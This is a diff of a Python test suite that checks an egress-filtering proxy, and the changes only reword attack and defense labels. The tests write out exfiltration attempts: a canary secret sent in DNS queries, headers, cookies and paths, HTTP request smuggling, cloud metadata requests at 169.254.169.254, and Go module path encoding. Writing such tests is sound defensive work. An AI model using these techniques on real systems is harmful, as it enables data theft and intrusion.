@@ -168,7 +168,7 @@ def _anything_arrived(registry: Registry) -> bool:
 
 def _proxied(
     name: str,
-    defence: str,
+    defense: str,
     ask: Request,
     null: Door,
     *,
@@ -177,13 +177,11 @@ def _proxied(
 ) -> Attempt:
     run = functools.partial(_through, ask, arrived)
     product = door or Door()
-    return Attempt(name, defence, functools.partial(run, product), functools.partial(run, null))
+    return Attempt(name, defense, functools.partial(run, product), functools.partial(run, null))
 
 
 def _smuggled(name: str, ask: Request) -> Attempt:
-    return _proxied(
-        name, "fetch-only: the proxy writes each request anew", ask, Door(mode="connect")
-    )
+    return _proxied(name, "fetch-only: the proxy rebuilds each request", ask, Door(mode="connect"))
 
 
 async def _redirected(gate: Gate) -> bytes:
@@ -242,7 +240,7 @@ async def _by_name(networks: Sequence[str], folder: Path) -> Outcome:
 def _address(name: str, address: str, network: str) -> Attempt:
     return Attempt(
         name,
-        "addresses are checked after the look-up, and used as they were checked",
+        "addresses are checked after the lookup, and the checked address is used",
         functools.partial(_metadata, (), address),
         functools.partial(_metadata, (network,), address),
     )
@@ -270,7 +268,7 @@ async def _looks_up(rules: Sequence[str], folder: Path) -> Outcome:
                 await writer.start_tls(trust, server_hostname=host)
                 writer.write(f"GET / HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
                 await asyncio.wait_for(reader.read(1), 5)
-        why = gate.refused[0] if gate.refused else "nobody is asked"
+        why = gate.refused[0] if gate.refused else "nothing was requested"
     return outcome(host in asked, "its name server is asked", why)
 
 
@@ -292,22 +290,24 @@ async def _endless(bounds: EgressLimits, folder: Path) -> Outcome:
 ATTEMPTS = (
     _inside("reaches a server on this machine's loopback", _reaches, "tcp"),
     _inside("reaches an abstract socket of this machine", _reaches, "abstract"),
-    _inside("sends a secret as a question to a name server", _asks_a_name_server),
+    _inside("sends a secret as a DNS query", _asks_a_name_server),
     _smuggled(
         "uploads through a package registry",
         _sends("POST /upload", _LENGTH, _BODY),
     ),
-    _smuggled("puts a package into a registry", _sends(f"PUT /{CANARY}", "Content-Length: 0\r\n")),
-    _smuggled("sends a secret as a query", _sends(f"GET /a?{CANARY}")),
+    _smuggled(
+        "publishes a package to a registry", _sends(f"PUT /{CANARY}", "Content-Length: 0\r\n")
+    ),
+    _smuggled("sends a secret as a query string", _sends(f"GET /a?{CANARY}")),
     _smuggled("sends a secret as a header", _sends("GET /a", f"User-Agent: {CANARY}\r\n")),
     _smuggled("sends a secret as a cookie", _sends("GET /a", f"Cookie: a={CANARY}\r\n")),
     _smuggled("sends a secret as the body of a GET", _sends("GET /a", _LENGTH, _BODY)),
     _smuggled(
-        "sends a second request behind a first",
+        "smuggles a second request after the first",
         _sends("GET /a", "Content-Length: 0\r\n", f"POST /{CANARY} HTTP/1.1\r\nHost: x\r\n\r\n"),
     ),
     _proxied(
-        "asks for a host that is not allowed",
+        "requests a host that is not allowed",
         "list of allowed hosts",
         _sends("GET /a", host="elsewhere.test"),
         Door(rules=(HOST, "elsewhere.test")),
@@ -315,64 +315,64 @@ ATTEMPTS = (
     ),
     _proxied(
         "is redirected to a host that is not allowed",
-        "list of allowed hosts, for redirects too",
+        "list of allowed hosts, also for redirects",
         _redirected,
         Door(rules=(HOST, "elsewhere.test")),
     ),
     Attempt(
-        "looks up a name made of a secret through the proxy",
-        "only allowed names are looked up",
+        "looks up a name that contains a secret through the proxy",
+        "only allowed names are resolved",
         functools.partial(_looks_up, (HOST,)),
         functools.partial(_looks_up, (HOST, "*.elsewhere.test")),
     ),
     _proxied(
-        "reaches this machine by an allowed name that leads to it",
-        "addresses are checked after the look-up",
+        "reaches this machine through an allowed name that resolves to it",
+        "addresses are checked after the lookup",
         _sends("GET /a"),
         Door(),
         door=Door(networks=()),
         arrived=_anything_arrived,
     ),
-    _address("asks the cloud's metadata address", "169.254.169.254", "169.254.0.0/16"),
-    _address("asks it disguised as IPv6", "::ffff:169.254.169.254", "169.254.0.0/16"),
-    _address("asks a private network", "10.1.2.3", "10.0.0.0/8"),
+    _address("requests the cloud's metadata address", "169.254.169.254", "169.254.0.0/16"),
+    _address("requests it disguised as IPv6", "::ffff:169.254.169.254", "169.254.0.0/16"),
+    _address("requests an address in a private network", "10.1.2.3", "10.0.0.0/8"),
     Attempt(
-        "has the operator's proxy look up a server inside",
-        "names that this machine cannot look up are the operator's to allow",
+        "makes the operator's proxy resolve an internal server",
+        "names that this machine cannot resolve need the operator's permission",
         functools.partial(_by_name, ()),
         functools.partial(_by_name, ("0.0.0.0/0",)),
     ),
     _proxied(
-        "says much by which of many missing paths it asks for",
-        "bound of misses",
+        "encodes data in which missing paths it requests",
+        "limit on misses",
         _many,
         Door(),
         door=Door(bounds=replace(EgressLimits(), misses=3)),
         arrived=lambda registry: len(registry.seen) >= 10,
     ),
     _proxied(
-        "names its own host in the path of a Go module",
-        "only modules in go.mod and go.sum of the base",
+        "puts its own host into a Go module's path",
+        "only modules in the base's go.mod and go.sum",
         _sends(f"GET /elsewhere.test/{CANARY}/@v/list"),
         Door(),
         door=Door(modules=frozenset({"example.com/a@v1.0.0"})),
     ),
     _proxied(
-        "tells it as the version of a known Go module",
-        "only versions in go.mod and go.sum of the base",
+        "puts data into the version of a known Go module",
+        "only versions in the base's go.mod and go.sum",
         _sends(f"GET /example.com/a/@v/{CANARY}.info"),
         Door(),
         door=Door(modules=frozenset({"example.com/a@v1.0.0"})),
     ),
     _proxied(
         "sends a secret as a very long path",
-        "a bound on the length of paths",
+        "limit on path length",
         _sends(f"GET /{'a' * 2000}{CANARY}"),
         Door(mode="connect"),
     ),
     Attempt(
-        "downloads without end",
-        "bound of bytes",
+        "downloads endlessly",
+        "limit on bytes",
         functools.partial(_endless, _SLOW),
         functools.partial(_endless, EgressLimits()),
     ),
